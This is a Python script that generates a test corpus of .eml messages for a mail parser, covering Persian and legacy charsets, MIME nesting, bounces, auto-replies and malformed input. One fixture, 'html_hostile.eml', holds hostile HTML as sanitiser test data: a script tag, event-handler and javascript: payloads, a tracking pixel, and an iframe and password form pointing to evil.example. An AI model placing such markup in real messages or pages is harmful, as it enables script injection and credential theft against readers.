#!/usr/bin/env python3
"""Regenerates the .eml test corpus beside this script.

The messages are written by hand to mimic what real clients and mail servers
send; legacy-charset bytes are produced with Python's codecs so that the
expected decoded text in tests/corpus.rs is known exactly. Run from anywhere:
    python3 crates/mail/tests/corpus/generate.py
"""
import base64
import os
import quopri
import random

HERE = os.path.dirname(os.path.abspath(__file__))


def b64word(text, charset):
    return "=?%s?B?%s?=" % (charset, base64.b64encode(text.encode(charset)).decode())


def crlf(s):
    return s.replace("\r\n", "\n").replace("\n", "\r\n")


def write(name, data, use_crlf=True):
    if isinstance(data, str):
        data = data.encode("utf-8")
    if use_crlf:
        data = data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


def wrap76(s):
    return "\n".join(s[i:i + 76] for i in range(0, len(s), 76))


# 1. Plain UTF-8 Persian, 8bit.
write("persian_utf8_plain.eml", f"""Return-Path: <ali.rezaei@example.ir>
From: =?UTF-8?B?{base64.b64encode('علی رضایی'.encode()).decode()}?= <Ali.Rezaei@Example.IR>
To: support@switchboard.example
Subject: {b64word('پیگیری سفارش ۱۲۳۴', 'utf-8')}
Date: Tue, 3 Oct 2023 10:15:00 +0330
Message-ID: <persian-plain-1@example.ir>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

سلام،
سفارش من هنوز نرسیده است. لطفاً پیگیری کنید.
با تشکر
""")

# 2. windows-1256 body, RFC 2047 windows-1256 subject and display name.
W1256_SUBJECT = "پيگيري سفارش شماره 98"
W1256_NAME = "مريم کاظمي"
W1256_BODY = "سلام، سفارش من هنوز نرسيده است.\nلطفا پيگيري کنيد. گزارش چاپ ژاکت.\n"
write("windows1256_body.eml", b"From: " + b64word(W1256_NAME, "windows-1256").encode()
      + b" <maryam@example.ir>\nTo: support@switchboard.example\nSubject: "
      + b64word(W1256_SUBJECT, "windows-1256").encode()
      + b"\nDate: Wed, 4 Oct 2023 08:00:00 +0000\nMessage-ID: <w1256-1@example.ir>\n"
      + b"MIME-Version: 1.0\nContent-Type: text/plain; charset=\"windows-1256\"\n"
      + b"Content-Transfer-Encoding: 8bit\n\n" + W1256_BODY.encode("windows-1256"))

# 3. iso-8859-6 (Arabic; the charset has no Persian-only letters).
ISO_BODY = "السلام عليكم\nهل يمكنكم مساعدتي؟\n"
write("iso8859_6.eml", b"From: Ahmad <ahmad@example.sa>\nTo: support@switchboard.example\n"
      b"Subject: =?iso-8859-6?Q?" + "".join("=%02X" % b for b in "مساعدة".encode("iso-8859-6")).encode()
      + b"?=\nDate: Thu, 5 Oct 2023 09:00:00 +0300\nMessage-ID: <iso6-1@example.sa>\n"
      b"MIME-Version: 1.0\nContent-Type: text/plain; charset=iso-8859-6\n"
      b"Content-Transfer-Encoding: 8bit\n\n" + ISO_BODY.encode("iso-8859-6"))

# 4. Quoted-printable UTF-8 with soft line breaks.
QP_BODY = ("سلام. این یک پیام طولانی است که با کدگذاری quoted-printable ارسال شده "
           "و خطوط آن شکسته شده‌اند. قیمت: ۱۰۰٬۰۰۰ تومان = 100000\n")
write("quoted_printable.eml", "From: Sara <sara@example.ir>\nTo: support@switchboard.example\n"
      "Subject: QP test\nDate: Fri, 6 Oct 2023 12:00:00 +0330\nMessage-ID: <qp-1@example.ir>\n"
      "MIME-Version: 1.0\nContent-Type: text/plain; charset=UTF-8\n"
      "Content-Transfer-Encoding: quoted-printable\n\n"
      + quopri.encodestring(QP_BODY.encode()).decode())

# 5. Base64 UTF-8 body.
B64_BODY = "درود! این متن با base64 کدگذاری شده است.\n"
write("base64.eml", "From: Reza <reza@example.ir>\nTo: support@switchboard.example\n"
      "Subject: base64 body\nDate: Sat, 7 Oct 2023 12:00:00 +0000\nMessage-ID: <b64-1@example.ir>\n"
      "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
      + wrap76(base64.b64encode(B64_BODY.encode()).decode()) + "\n")

# 6. mixed > related > alternative, inline cid image and a PDF.
PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
write("nested_related.eml", f"""From: Nima <nima@example.ir>
To: support@switchboard.example
Cc: Boss <Boss@Example.IR>, broken-address
Subject: Invoice with logo
Date: Sun, 8 Oct 2023 10:00:00 +0330
Message-ID: <nested-1@example.ir>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="MIXED"

This is a multi-part message in MIME format.
--MIXED
Content-Type: multipart/related; boundary="REL"; type="multipart/alternative"

--REL
Content-Type: multipart/alternative; boundary="ALT"

--ALT
Content-Type: text/plain; charset=utf-8

Please see the invoice.
--ALT
Content-Type: text/html; charset=utf-8

<html><body><p>Please see the <b>invoice</b>.</p><img src="cid:logo123@example.ir" alt="logo"></body></html>
--ALT--
--REL
Content-Type: image/png; name="logo.png"
Content-Transfer-Encoding: base64
Content-ID: <logo123@example.ir>
Content-Disposition: inline; filename="logo.png"

{base64.b64encode(PNG).decode()}
--REL--
--MIXED
Content-Type: application/pdf; name="=?UTF-8?B?{base64.b64encode('فاکتور.pdf'.encode()).decode()}?="
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename*=UTF-8''%D9%81%D8%A7%DA%A9%D8%AA%D9%88%D8%B1.pdf

{base64.b64encode(PDF).decode()}
--MIXED--
""")

# 7. Hostile HTML.
write("html_hostile.eml", """From: Mallory <mallory@example.com>
To: support@switchboard.example
Subject: Click me
Date: Mon, 9 Oct 2023 10:00:00 +0000
Message-ID: <hostile-1@example.com>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><style>body{background:url(http://evil.example/bg.png)}</style>
<script>alert('xss')</script></head>
<body onload="steal()">
<p>Hello <a href="javascript:alert(1)">click</a> and <a href="https://shop.example/order">order</a>.</p>
<img src="x" onerror="alert(2)">
<img src="https://cdn.example/photo.jpg" alt="photo" width="300">
<img src="https://track.example/open.gif?u=42" width="1" height="1">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/login"><input name="password"></form>
<object data="evil.swf"></object>
<div style="color: red; background-image: url('https://track.example/bg')">styled</div>
<p dir="rtl" style="text-align:right">متن فارسی</p>
</body></html>
""")

# 8. No Message-ID.
write("no_message_id.eml", """From: Hamid <hamid@example.ir>
To: support@switchboard.example
Subject: no id
Date: Tue, 10 Oct 2023 10:00:00 +0000

Message without an id.
""")

# 9/10. Two different messages sharing one Message-ID.
for suffix, body in (("a", "first copy"), ("b", "second, different content")):
    write(f"duplicate_id_{suffix}.eml", f"""From: Dup <dup@example.ir>
To: support@switchboard.example
Subject: duplicate
Date: Tue, 10 Oct 2023 11:00:00 +0000
Message-ID: <same-id@example.ir>

{body}
""")

# 11. Auto-Submitted (also with the null Return-Path auto-responders use).
write("auto_submitted.eml", """Return-Path: <>
From: Ali <ali@example.ir>
To: support@switchboard.example
Subject: Out of office: Re: your ticket [#77]
Date: Wed, 11 Oct 2023 10:00:00 +0000
Message-ID: <ooo-1@example.ir>
Auto-Submitted: auto-replied (vacation)

I am away until Sunday.
""")

# 12. Precedence: bulk.
write("precedence_bulk.eml", """From: News <news@shop.example>
To: support@switchboard.example
Subject: Weekly deals
Date: Wed, 11 Oct 2023 10:00:00 +0000
Message-ID: <bulk-1@shop.example>
Precedence: bulk
List-Unsubscribe: <mailto:unsub@shop.example>

Deals!
""")

# 13. X-Autoreply.
write("x_autoreply.eml", """From: Old Mailer <info@legacy.example>
To: support@switchboard.example
Subject: Re: hello
Date: Wed, 11 Oct 2023 10:00:00 +0000
Message-ID: <xauto-1@legacy.example>
X-Autoreply: yes

Thank you for your mail.
""")

# 14. RFC 3464 DSN for a message we sent.
write("dsn_bounce.eml", """Return-Path: <>
From: Mail Delivery System <MAILER-DAEMON@mx.switchboard.example>
To: support@switchboard.example
Subject: Undelivered Mail Returned to Sender
Date: Thu, 12 Oct 2023 10:00:00 +0000
Message-ID: <dsn-1@mx.switchboard.example>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="DSN"

--DSN
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<nobody@customer.example>: host mx.customer.example said: 550 5.1.1 User unknown

--DSN
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.switchboard.example
Arrival-Date: Thu, 12 Oct 2023 09:59:58 +0000

Final-Recipient: rfc822; Nobody@Customer.Example
Original-Recipient: rfc822;nobody@customer.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.customer.example
Diagnostic-Code: smtp; 550 5.1.1 User unknown

--DSN
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

From: Support <support@switchboard.example>
To: nobody@customer.example
Subject: Re: Order late [#42]
Message-ID: <reply-42-abc@switchboard.example>

--DSN--
""")

# 15. Exim-style bounce, plain text, null Return-Path.
write("mailer_daemon_bounce.eml", """Return-Path: <>
From: Mail Delivery System <Mailer-Daemon@relay.example>
To: support@switchboard.example
Subject: Mail delivery failed: returning message to sender
Date: Thu, 12 Oct 2023 11:00:00 +0000
Message-ID: <E1qr-bounce@relay.example>
X-Failed-Recipients: gone@customer.example

This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  gone@customer.example
    host mx.customer.example [192.0.2.1]
    SMTP error from remote mail server after RCPT TO:<gone@customer.example>:
    550 5.2.1 Mailbox disabled

------ This is a copy of the message, including all the headers. ------

From: Support <support@switchboard.example>
To: gone@customer.example
Subject: Re: refund [#43]
Message-ID: <reply-43-def@switchboard.example>

Your refund is on its way.
""", use_crlf=False)

# 16. No From at all.
write("no_from.eml", """To: support@switchboard.example
Subject: who am I
Date: Fri, 13 Oct 2023 10:00:00 +0000
Message-ID: <nofrom-1@example.ir>

anonymous
""")

# 17. From with a bare word and no address.
write("from_no_address.eml", """From: foo
To: support@switchboard.example
Subject: bare from
Message-ID: <barefrom-1@example.ir>
Date: not a date at all

body
""")

# 18. Truncated MIME: boundary never closed, base64 cut mid-way.
write("truncated_mime.eml", """From: Cut <cut@example.ir>
To: support@switchboard.example
Subject: truncated
Message-ID: <trunc-1@example.ir>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="NEVERCLOSED"

--NEVERCLOSED
Content-Type: text/plain; charset=utf-8

The text part survives.
--NEVERCLOSED
Content-Type: application/octet-stream; name="data.bin"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="data.bin"

AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJygpKissLS4v
MDEyMzQ1Njc4OTo7PD0+P0BBQkNERUZHSE
""")

# 19. Binary garbage.
rng = random.Random(1256)
write("binary_garbage.eml", bytes(rng.randrange(256) for _ in range(2048)), use_crlf=False)

# 20. Outlook reply (plain text).
write("reply_outlook.eml", """From: Customer <customer@corp.example>
To: Support <support@switchboard.example>
Subject: RE: Order late [#42]
Date: Mon, 16 Oct 2023 10:00:00 +0000
Message-ID: <outlook-reply-1@corp.example>
In-Reply-To: <reply-42-abc@switchboard.example>
References: <orig-42@corp.example> <reply-42-abc@switchboard.example>
Content-Type: text/plain; charset=utf-8

Thanks, that works for me.

Regards,
Customer

________________________________
From: Support <support@switchboard.example>
Sent: Sunday, October 15, 2023 9:00 AM
To: Customer <customer@corp.example>
Subject: Re: Order late [#42]

Your order has shipped.

-----Original Message-----
From: Customer
Sent: Saturday
Where is my order?
""")

# 21. Gmail reply: text quotes with "On ... wrote:" and "> ", HTML with gmail_quote.
write("reply_gmail.eml", """From: Gmail User <gmail.user@gmail.example>
To: support@switchboard.example
Subject: Re: Order late [#42]
Date: Mon, 16 Oct 2023 11:00:00 +0000
Message-ID: <CAgmail-1@mail.gmail.example>
In-Reply-To: <reply-42-abc@switchboard.example>
References: <reply-42-abc@switchboard.example>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="GM"

--GM
Content-Type: text/plain; charset="UTF-8"

Great, thank you!

On Sun, Oct 15, 2023 at 9:00 AM Support <support@switchboard.example>
wrote:

> Your order has shipped.
>
> > Where is my order?

--GM
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">Great, thank you!</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Sun, Oct 15, 2023 at 9:00 AM Support &lt;<a href="mailto:support@switchboard.example">support@switchboard.example</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Your order has shipped.</blockquote></div>

--GM--
""")

# 22. Gmail reply with only an HTML part.
write("reply_gmail_html_only.eml", """From: Html Only <html.only@gmail.example>
To: support@switchboard.example
Subject: Re: Order late [#42]
Date: Mon, 16 Oct 2023 12:00:00 +0000
Message-ID: <CAgmail-2@mail.gmail.example>
MIME-Version: 1.0
Content-Type: text/html; charset="UTF-8"

<div dir="ltr">Received it today.</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Sun, Oct 15, 2023 at 9:00 AM Support &lt;support@switchboard.example&gt; wrote:<br></div><blockquote class="gmail_quote">Your order has shipped.<br><blockquote>Where is my order?</blockquote></blockquote></div>
""")

# 23. Persian Gmail attribution wrapped in bidi embedding marks.
write("reply_persian_quote.eml", """From: =?UTF-8?B?""" + base64.b64encode("زهرا".encode()).decode() + """?= <zahra@example.ir>
To: support@switchboard.example
Subject: =?UTF-8?B?""" + base64.b64encode("پاسخ: Re: مرجوعی کالا [#45]".encode()).decode() + """?=
Date: Tue, 17 Oct 2023 10:00:00 +0330
Message-ID: <persian-reply-1@example.ir>
In-Reply-To: <reply-45@switchboard.example>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

ممنون، مشکل حل شد.

\u202bدر تاریخ سه‌شنبه ۲۵ مهر ۱۴۰۲ ساعت ۹:۰۰ پشتیبانی <support@switchboard.example> نوشت:\u202c

> کالای شما بازگردانده شد.
""")

# 24. A small and an oversized attachment.
BIG = bytes(range(256)) * 1200  # 307,200 bytes
write("oversized_attachment.eml", f"""From: Big <big@example.ir>
To: support@switchboard.example
Subject: big file
Date: Wed, 18 Oct 2023 10:00:00 +0000
Message-ID: <big-1@example.ir>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="B"

--B
Content-Type: text/plain; charset=utf-8

two files attached
--B
Content-Type: text/plain; name="small.txt"
Content-Disposition: attachment; filename="small.txt"

small attachment
--B
Content-Type: application/octet-stream
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="big.bin"

{wrap76(base64.b64encode(BIG).decode())}
--B--
""")

# 25. Empty file.
write("empty.eml", b"", use_crlf=False)

# 26. mbox-style "From " separator before the headers, LF only.
write("mbox_from_line.eml", """From someone@example.ir Thu Oct 19 10:00:00 2023
From: Someone <someone@example.ir>
To: support@switchboard.example
Subject: from mbox
Message-ID: <mbox-1@example.ir>

mbox body
""", use_crlf=False)
